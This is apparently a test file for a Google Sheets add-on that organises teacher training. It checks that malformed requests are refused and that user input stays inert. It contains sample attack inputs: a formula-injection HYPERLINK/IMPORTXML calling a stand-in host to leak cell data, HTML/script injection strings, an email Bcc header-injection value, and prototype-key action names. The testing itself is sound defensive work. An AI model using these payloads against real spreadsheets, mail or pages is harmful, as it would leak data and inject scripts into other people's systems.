// The doors of the product: the menu, the page's calls, and what people type that looks like code.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ActionId } from '../../src/shared/contract';
import { ANSWERS, BANK, PROFILE, STAFF } from '../../src/workbook/tables';
import { ROOT } from '../root';
import type { Desk } from './desk';
import { csv, CONSENT, needsAsked, needsOf, PEOPLE, selfAsked, selfOf, setUp, staffed } from './school';
import { deskAt, emptyDesk } from './workspace';

const ACTIONS: readonly ActionId[] = [
  'importStaff',
  'sendNeeds',
  'sendSelf',
  'sendAddressed',
  'remind',
  'processAnswers',
  'scoreMatrix',
  'formGroups',
  'editGroups',
  'groupVariants',
  'whatIfGroups',
  'publishGroups',
  'agreeProgrammes',
  'makeTimetable',
  'moveModule',
  'sendInvitations',
  'askFeedback',
  'formPairs',
  'formCommunities',
  'formMastery',
  'publishTeams',
  'setUpBank',
  'fileResources',
  'makePlan',
  'importPlan',
  'refreshPlan',
  'remindPlan',
  'calendarPlan',
  'askPupils',
  'countIndicators',
  'writeNote',
  'undoRun',
];

/** Sends anything at all through the page's door. */
const rpc = (desk: Desk, request: unknown): { ok: boolean; problems?: { code: string; text: string }[] } =>
  desk.workspace.rpc('rpc', request) as { ok: boolean; problems?: { code: string; text: string }[] };

describe('the menu', () => {
  it('stands in the order of the work, and drawing it reads nothing', () => {
    const desk = emptyDesk();
    const [menu] = desk.workspace.ui.menus;
    expect(menu?.title).toBe('Время роста');
    const captions = menu?.items.flatMap((item) => (item.kind === 'item' ? [item.caption] : [])) ?? [];
    expect(captions.length).toBeGreaterThanOrEqual(17);
    const order = ['Настро', 'сотрудник', 'потребност', 'амооценк', 'групп', 'расписани', 'приглашени', 'банк'].map(
      (word) => captions.findIndex((caption) => caption.includes(word)),
    );
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(order).not.toContain(-1);
    const services = new Set(desk.workspace.calls.map(({ service }) => service));
    expect([...services].filter((service) => !['SpreadsheetApp', 'Ui', 'Menu'].includes(service))).toEqual([]);
    expect(desk.workspace.calls.filter(({ method }) => /^get(?!Ui$)|^open|^read/.test(method))).toEqual([]);
  });

  it('is told in the user guide item by item, in the same order', () => {
    const [menu] = emptyDesk().workspace.ui.menus;
    const guide = readFileSync(join(ROOT, 'docs/user-guide.md'), 'utf8');
    const [, section = ''] = /## Меню по порядку\n(.*?)\n## /s.exec(guide) ?? [];
    const told = section.split('\n').flatMap((line) => /^\| ([^|]*[а-яё)…]) +\|/i.exec(line)?.[1] ?? []);
    expect(told.slice(1)).toEqual(menu?.items.flatMap((item) => (item.kind === 'item' ? [item.caption] : [])));
  });

  it('opens the page at every item', () => {
    const desk = emptyDesk();
    const [menu] = desk.workspace.ui.menus;
    for (const item of menu?.items ?? []) {
      if (item.kind !== 'item') continue;
      desk.workspace.ui.close('sidebar');
      desk.workspace.ui.close('dialog');
      desk.workspace.ui.click(menu?.title ?? '', item.caption);
      expect(desk.workspace.ui.sidebar ?? desk.workspace.ui.dialog).toBeDefined();
    }
  });
});

describe('a request that is none', () => {
  it.each([
    ['nothing', null],
    ['a number', 5],
    ['a text', 'home'],
    ['an empty object', {}],
    ['a dialog of nothing', { method: 'dialog', view: 'home' }],
    ['a module that is a list', { method: 'timetable', module: ['Г-01-1'] }],
    ['a move that is a text', { method: 'timetable', edit: 'Г-01-1' }],
    ['a list', ['home']],
    ['an unknown method', { method: 'drop' }],
    ['a method of every object', { method: 'toString' }],
    ['no action', { method: 'start', input: {} }],
    ['an unknown action', { method: 'start', action: 'dropAll', input: {} }],
    ['an action of every object', { method: 'start', action: '__proto__', input: {} }],
    ['another of them', { method: 'preview', action: 'constructor', input: {} }],
    ['no input', { method: 'start', action: 'sendNeeds' }],
    ['an input that is null', { method: 'start', action: 'sendNeeds', input: null }],
    ['an input that is a list', { method: 'start', action: 'sendNeeds', input: [] }],
    ['an input that is a text', { method: 'preview', action: 'sendNeeds', input: 'x' }],
    ['a run that is a number', { method: 'pump', run: 5 }],
    ['a run too long', { method: 'stop', run: 'З'.repeat(10_000) }],
    ['a query too long', { method: 'search', query: 'x'.repeat(100_000) }],
    ['a query that is an object', { method: 'search', query: {} }],
  ])('%s is refused in words, and nothing happens', (_name, request) => {
    const desk = deskAt(staffed);
    const before = desk.picture();
    const reply = rpc(desk, request);
    expect(reply.ok).toBe(false);
    expect(reply.problems?.[0]?.text).toMatch(/[а-яё]{4}/i);
    expect(desk.picture()).toEqual(before);
  });

  it.each<readonly [string, ActionId, Record<string, unknown>]>([
    ['a school that is a number', 'setUp', { school: 5, programme: 'vremya-rosta', cycle: '1' }],
    ['a school that is an object', 'setUp', { school: { toString: 'x' }, programme: 'vremya-rosta', cycle: '1' }],
    ['a sheet that is a list', 'importStaff', { sheet: ['1'] }],
    ['a sheet that is not there', 'importStaff', { sheet: '123456789' }],
    ['a list of resources that is a text', 'fileResources', { resources: 'x' }],
    ['a resource that is a number', 'fileResources', { resources: [1] }],
    [
      'a resource whose title is a list',
      'fileResources',
      { title: ['x'], kind: 'other', competency: 'ict.forms', link: 'https://a.example' },
    ],
    ['a run that is a number', 'undoRun', { run: 7 }],
    ['no run', 'undoRun', {}],
  ])('%s is refused in words', (_name, action, input) => {
    const desk = deskAt(staffed);
    const before = desk.picture();
    for (const method of ['preview', 'start'] as const) {
      const reply = rpc(desk, { method, action, input });
      expect(reply.ok).toBe(false);
      expect(reply.problems?.[0]?.text).toMatch(/[а-яё]{4}/i);
      expect(reply.problems?.[0]?.code).not.toBe('google.failed');
    }
    expect(desk.picture()).toEqual(before);
  });

  it('a run that is not the open one cannot be pumped or stopped', () => {
    const desk = deskAt(staffed);
    for (const method of ['pump', 'stop'] as const)
      expect(rpc(desk, { method, run: 'З-9999' })).toMatchObject({ ok: false });
  });
});

describe('a workbook that is not set up', () => {
  it.each(ACTIONS)('«%s» says that set-up comes first', (action) => {
    const desk = emptyDesk();
    const before = desk.picture();
    const reply = rpc(desk, { method: 'preview', action, input: {} });
    expect(reply.ok).toBe(false);
    expect(reply.problems?.[0]?.text).toMatch(/Настро/);
    // Without a preview it is refused, or begun and ended at once.
    const started = desk.call({ method: 'start', action, input: {} });
    expect(started.ok ? started.value.state : 'failed').toBe('failed');
    expect(started.ok ? started.value.lines[0] : started.problems[0]?.text).toMatch(/Настро/);
    expect(desk.home().running).toBeUndefined();
    expect(desk.picture()).toEqual(before);
  });

  it('the page opens, and its next step is set-up', () => {
    expect(emptyDesk().home()).toMatchObject({ next: 'setUp' });
  });

  it('the heartbeat does no harm', () => {
    const desk = emptyDesk();
    const before = desk.picture();
    desk.workspace.run('onHeartbeat');
    expect(desk.picture()).toEqual(before);
  });
});

describe('text that looks like a formula', () => {
  const FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"Нажмите")';
  /** Cells of the whole workbook that are formulas. */
  const formulas = (desk: Desk): string[] =>
    desk.director.spreadsheet
      .getSheets()
      .flatMap((sheet) => sheet.getDataRange().getFormulas().flat())
      .filter((formula) => formula !== '');

  it('from a staff list stays text', () => {
    const desk = deskAt(setUp);
    desk.press('importStaff', {
      text: csv([
        ['ФИО', 'Почта', 'Предметы', 'Должность', 'Школа'],
        ['Осипова О. О.', 'osipova@school.example', FORMULA, '+7 900', '@школа'],
      ]),
    });
    expect(formulas(desk)).toEqual([]);
    const row = desk.row(STAFF, { email: 'osipova@school.example' });
    expect(row.role).toBe('+7 900');
    expect(row.school).toBe('@школа');
    expect(row.subjects.startsWith('=HYPERLINK')).toBe(true);
  });

  it.each([FORMULA, '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\u0000=1+1', "'=1+1"])(
    'from an answer stays text: %j',
    (text) => {
      const desk = deskAt(selfAsked);
      const before = formulas(desk);
      desk.answer('self', PEOPLE.wind.email, { ...selfOf(PEOPLE.wind), 'questions:2': text, code: text });
      desk.press('processAnswers');
      expect(formulas(desk)).toEqual(before);
      expect(desk.row(PROFILE, { teacher: 'У-002', competency: 'ict.forms' }).questions).not.toMatch(
        /^(2|0|#|Нажмите)/,
      );
      expect(desk.row(ANSWERS, { teacher: 'У-002' }).typed).not.toMatch(/^(2|0|#|Нажмите)/);
    },
  );

  it('from an offer to the bank stays text, in the register and in the search', () => {
    const desk = deskAt(staffed);
    desk.press('setUpBank');
    desk.answer('bank/offer', PEOPLE.wind.email, {
      title: FORMULA,
      kind: 'other',
      competency: 'ict.forms',
      link: '=IMPORTXML("https://evil.example")',
      annotation: '=1+1',
      tags: '=2+2',
    });
    desk.press('processAnswers');
    expect(formulas(desk)).toEqual([]);
    const [row] = desk.rows(BANK);
    expect(row?.title).toBe(FORMULA);
    expect(row?.annotation).toBe('=1+1');
  });

  it('and is read back as it was written, so that reading and writing again change nothing', () => {
    const desk = deskAt(selfAsked);
    desk.answer('self', PEOPLE.wind.email, { ...selfOf(PEOPLE.wind), 'questions:2': FORMULA });
    desk.press('processAnswers');
    const before = desk.picture();
    desk.press('processAnswers');
    desk.press('scoreMatrix');
    expect(desk.picture()).toEqual(before);
  });
});

describe('text that looks like HTML', () => {
  const NAME = 'Осипова <img src=x onerror=alert(1)> & "О."';

  it('in a name is escaped in the letter and left as it is in its plain part', () => {
    const desk = deskAt(setUp);
    desk.press('importStaff', { text: 'ФИО;Почта\nОсипова О. О.;osipova@school.example' });
    desk.type(STAFF, () => true, 'name', NAME);
    desk.type(STAFF, () => true, 'school', '');
    desk.press('sendNeeds');
    const [letter] = desk.letters();
    expect(letter?.html).toContain('Осипова &lt;img src=x onerror=alert(1)&gt; &amp; &quot;О.&quot;');
    expect(letter?.html).not.toMatch(/<img/i);
    expect(letter?.text).toContain(NAME);
  });

  it('in a school’s name is escaped in every letter', () => {
    const desk = emptyDesk();
    desk.press('setUp', { school: '<script>alert(1)</script>', programme: 'vremya-rosta', cycle: '1' });
    desk.press('importStaff', { text: 'ФИО;Почта\nОсипова О. О.;osipova@school.example' });
    desk.press('sendNeeds');
    expect(desk.letters()[0]?.html).not.toMatch(/<script/i);
  });

  it('a line break in a name does not get into a subject or another header', () => {
    const desk = deskAt(staffed);
    desk.type(STAFF, ({ code }) => code === 'У-002', 'name', 'Ветрова Б. Б.\r\nBcc: all@school.example');
    desk.press('sendNeeds');
    for (const { subject, to, bcc } of desk.letters()) {
      expect(subject).not.toMatch(/[\r\n]/);
      expect(bcc).toEqual([]);
      expect(to.length).toBe(1);
    }
  });

  it('several addresses in one cell are no way to write to strangers', () => {
    const desk = deskAt(staffed);
    desk.type(STAFF, ({ code }) => code === 'У-002', 'email', 'vetrova@school.example, stranger@evil.example');
    const { preview } = desk.press('sendNeeds');
    const reached = desk.letters().flatMap(({ to }) => to.join().split(/[,;]\s*/));
    expect(reached).not.toContain('stranger@evil.example');
    expect(preview.warnings.join('\n')).toContain(PEOPLE.wind.name);
  });
});

it('texts longer than a cell holds are kept as far as they go, and the others’ answers are not lost', () => {
  const desk = deskAt(needsAsked);
  desk.answer('needs', PEOPLE.wind.email, {
    needs: ['ict.forms'],
    'needs.other': 'х'.repeat(60_000),
    consent: CONSENT,
  });
  desk.answer('needs', PEOPLE.hail.email, needsOf(PEOPLE.hail));
  desk.press('processAnswers');
  expect(desk.survey('needs').answered).toBe('2');
});
